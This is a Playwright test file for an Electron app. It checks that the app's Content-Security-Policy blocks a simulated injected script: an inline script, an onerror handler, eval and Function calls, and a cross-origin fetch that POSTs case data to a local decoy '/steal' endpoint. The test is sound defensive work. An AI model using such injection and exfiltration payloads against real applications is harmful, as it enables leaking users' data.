import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect, test } from './fixtures';

// R-electron in Chromium: the app's Content-Security-Policy (src/shared/csp.ts, the meta tag of
// src/renderer/index.html) blocks what a script injected through case data would try: run inline
// code, eval a string, and send what it read to another origin. This test uses `page` rather
// than the `app` fixture because the violations it provokes are logged as console errors.

let decoy: Server;
let decoyHits = 0;

test.beforeAll(async () => {
  // A second origin on the loopback interface that counts every request reaching it.
  decoy = createServer((_req, res) => {
    decoyHits++;
    res.writeHead(200, { 'access-control-allow-origin': '*' });
    res.end('leaked');
  });
  await new Promise<void>((ok) => decoy.listen(0, '127.0.0.1', ok));
});

test.afterAll(async () => {
  await new Promise<void>((ok) => decoy.close(() => ok()));
});

type Outcome = {
  inlineRan: boolean;
  handlerRan: boolean;
  evalResult: string;
  functionResult: string;
  fetchResult: string;
  directives: string[];
};

/**
 * What an injected script would try, as page code (a string: it runs in Chromium, not under the
 * Node types of this project). eval and new Function run from a timer, i.e. as the page's own
 * code: DevTools' Runtime.evaluate, which page.evaluate uses, is exempt from the eval check.
 */
function attackScript(url: string): string {
  return `(async () => {
    const seen = [];
    document.addEventListener('securitypolicyviolation', (e) => seen.push(e.effectiveDirective));

    // 1. An inline <script>, as markup injected through a note or a name would create it.
    const script = document.createElement('script');
    script.textContent = 'window.__inlineRan = true;';
    document.body.appendChild(script);

    // 2. An inline event handler.
    const img = document.createElement('img');
    img.setAttribute('onerror', 'window.__handlerRan = true;');
    img.src = 'data:image/png;base64,broken';
    document.body.appendChild(img);

    // 3. eval and the Function constructor.
    const codegen = await new Promise((done) => setTimeout(() => {
      let evalResult = 'ran';
      try { (0, eval)('1 + 1'); } catch (e) { evalResult = e.name; }
      let functionResult = 'ran';
      try { new Function('return 1')(); } catch (e) { functionResult = e.name; }
      done({ evalResult, functionResult });
    }, 0));

    // 4. A fetch to another origin.
    let fetchResult = 'sent';
    try {
      await fetch(${JSON.stringify(url)}, { method: 'POST', body: 'case data', mode: 'no-cors' });
    } catch (e) {
      fetchResult = e.name;
    }

    await new Promise((r) => setTimeout(r, 300));
    return {
      inlineRan: window.__inlineRan === true,
      handlerRan: window.__handlerRan === true,
      ...codegen,
      fetchResult,
      directives: seen,
    };
  })()`;
}

test('the CSP blocks an injected inline script, eval and a cross-origin fetch', async ({
  page,
  session,
}) => {
  expect(session.sessionId).toBeTruthy();
  const violations: string[] = [];
  page.on('console', (m) => {
    if (m.type() === 'error' && /Content Security Policy/i.test(m.text()))
      violations.push(m.text());
  });
  await page.goto('/');
  // The app has rendered (on a fresh data dir that is the first-run "who is working" screen).
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
  const decoyUrl = `http://127.0.0.1:${(decoy.address() as AddressInfo).port}/steal`;

  const outcome = await page.evaluate<Outcome>(attackScript(decoyUrl));

  console.log(
    `[R-electron] CSP in Chromium: inline script ran=${outcome.inlineRan}, inline handler ran=` +
      `${outcome.handlerRan}, eval=${outcome.evalResult}, Function=${outcome.functionResult}, ` +
      `cross-origin fetch=${outcome.fetchResult}, requests reaching the other origin=${decoyHits}, ` +
      `violations reported=${outcome.directives.join(',')}`,
  );
  expect(outcome.inlineRan).toBe(false);
  expect(outcome.handlerRan).toBe(false);
  expect(outcome.evalResult).toBe('EvalError');
  expect(outcome.functionResult).toBe('EvalError');
  expect(outcome.fetchResult).toBe('TypeError');
  expect(decoyHits).toBe(0);
  expect(outcome.directives).toEqual(
    expect.arrayContaining(['script-src-elem', 'script-src-attr', 'script-src', 'connect-src']),
  );
  expect(violations.length).toBeGreaterThanOrEqual(4);
});
